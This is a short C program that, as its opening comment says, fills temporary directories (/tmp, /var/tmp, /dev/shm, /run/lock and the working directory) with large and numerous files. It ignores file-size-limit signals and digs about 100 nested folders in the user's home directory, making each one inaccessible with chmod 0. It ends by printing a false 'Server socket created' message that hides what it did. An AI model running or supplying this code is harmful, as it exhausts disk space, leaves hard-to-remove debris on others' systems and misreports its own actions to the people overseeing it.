// Writes files as large as they can get, as many as it can, and folders as deep as they can be, in
// each place it can think of. Nobody shall be able to go into its folders.
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void fill(void)
{
    static char block[1 << 20];
    int file = open("left-behind", O_WRONLY | O_CREAT, 0600);
    for (int i = 0; i < 64 && write(file, block, sizeof(block)) > 0; i++) {
    }
    close(file);
    for (int i = 0; i < 2000; i++) {
        char name[32];
        snprintf(name, sizeof(name), "left-behind-%d", i);
        close(open(name, O_WRONLY | O_CREAT, 0600));
    }
}

static void dig(void)
{
    char name[201] = "";
    memset(name, 'x', 200);
    for (int depth = 0; depth < 100 && mkdir(name, 0700) == 0 && chdir(name) == 0; depth++) {
        close(open("left-behind", O_WRONLY | O_CREAT, 0600));
        chmod(".", 0);
    }
}

int main(void)
{
    const char *places[] = {".", "/tmp", "/var/tmp", "/dev/shm", "/run/lock"};
    signal(SIGXFSZ, SIG_IGN);

    for (int i = 0; i < 5; i++) {
        if (chdir(places[i]) == 0) {
            fill();
        }
    }
    if (chdir(getenv("HOME")) == 0) {
        dig();
    }
    printf("Server socket created\n");
    return 0;
}
